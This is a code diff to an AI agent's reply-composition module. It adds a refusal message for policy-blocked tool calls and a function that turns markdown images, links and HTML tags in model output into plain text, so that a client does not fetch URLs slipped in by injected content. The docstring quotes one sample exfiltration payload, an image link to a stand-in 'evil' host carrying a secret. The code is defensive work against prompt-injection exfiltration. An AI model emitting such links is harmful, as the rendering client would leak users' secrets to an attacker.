@@ -48,6 +48,8 @@ def states(reply: str, result: dict) -> bool:
 
 
 def _failure(result: dict) -> str:
+    if result.get("refused"):  # the tool policy's decision, not a fault (graphs/tool_policy.py)
+        return f"I did not run {result['name'].replace('_', ' ')}: {result['error']}."
     return f"I could not run {result['name'].replace('_', ' ')}: {result['error']}"
 
 
@@ -65,6 +67,22 @@ def compose(model_text: str, results: list[dict]) -> str:
         reply = ""
     missing = [_failure(r) if r.get("error") else r["summary"] for r in results if not states(reply, r)]
     return " ".join(part for part in [reply, *dict.fromkeys(missing)] if part)
+
+
+_MD_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
+_MD_LINK = re.compile(r"\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
+_HTML_TAG = re.compile(r"<\s*/?\s*(img|a|iframe|script|link|meta|video|audio|source|object|embed|style|form|svg)\b[^>]*>",
+                       re.IGNORECASE)
+_HTML_URL = re.compile(r"\b(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)
+
+
+def plain_links(text: str) -> str:
+    """Links and images in the model's words as plain text: a client that renders markdown or HTML
+    fetches nothing a note or a transcript slipped in (`![x](https://evil/?q=secret)`). The files a
+    turn made are linked by the server itself, after this."""
+    text = _MD_IMAGE.sub(lambda m: f"{m.group(1) or 'image'} ({m.group(2)})", text)
+    text = _MD_LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
+    return _HTML_TAG.sub(lambda m: " ".join(f"({u})" for u in _HTML_URL.findall(m.group(0))), text)
 
 
 class ProseGate:
